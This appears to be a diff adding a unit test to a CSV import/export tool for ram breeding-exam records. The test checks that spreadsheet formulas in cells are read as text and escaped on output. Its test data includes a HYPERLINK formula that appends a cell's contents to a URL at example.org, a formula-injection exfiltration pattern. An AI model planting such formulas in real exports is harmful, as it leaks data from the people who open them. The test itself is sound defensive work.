@@ -142,3 +142,19 @@ def test_units_stand_in_the_titles_of_columns() -> None:
     assert "circumference_cm" in names
     assert "temperature_celsius" in names
     assert "condition_score" in names
+
+
+def test_a_sheet_full_of_formulas_is_text_on_the_way_in_and_harmless_on_the_way_out(
+    read, protocol, tmp_path: Path
+) -> None:
+    formula = '=HYPERLINK("http://example.org?"&A1;"see here")'
+    quoted = '"' + formula.replace('"', '""') + '"'
+    reading = read(f"tag,date,note,SC\n@R1,2026-10-04,{quoted},34\n=2+2,2026-10-04,-1,=17*2\n")
+    (row,) = reading.rows
+    assert (row.ram.tag, row.exam.note) == ("@R1", formula)
+    assert "Scrotal circumference is a number" in str(reading.problems[0])
+    write_csv(tmp_path / "out.csv", fields_for(protocol), [values_of(row, protocol)])
+    written = (tmp_path / "out.csv").read_text()
+    assert "'@R1" in written
+    assert "'=HYPERLINK" in written
+    assert list(read(written).rows)[0].exam.note == formula
